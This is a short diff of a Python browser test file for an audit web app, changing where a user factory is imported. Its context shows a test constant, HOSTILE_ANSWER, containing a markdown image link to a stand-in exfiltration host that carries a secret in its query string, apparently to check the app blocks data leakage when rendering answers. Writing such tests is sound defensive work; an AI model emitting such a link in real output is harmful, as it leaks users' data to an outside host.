@@ -12,7 +12,7 @@ from playwright.sync_api import Browser, ConsoleMessage, Page, Request
 from audit_app.models import Job, Team
 from audit_app.services.submission import submit_job
 from tests.factories import FinishedJobFactory
-from tests.service.conftest import make_user
+from tests.people import make_user
 
 pytestmark = pytest.mark.django_db(transaction=True)
 HOSTILE_ANSWER = """Yes. ![chart](http://exfil.example/c.png?d=SECRET)
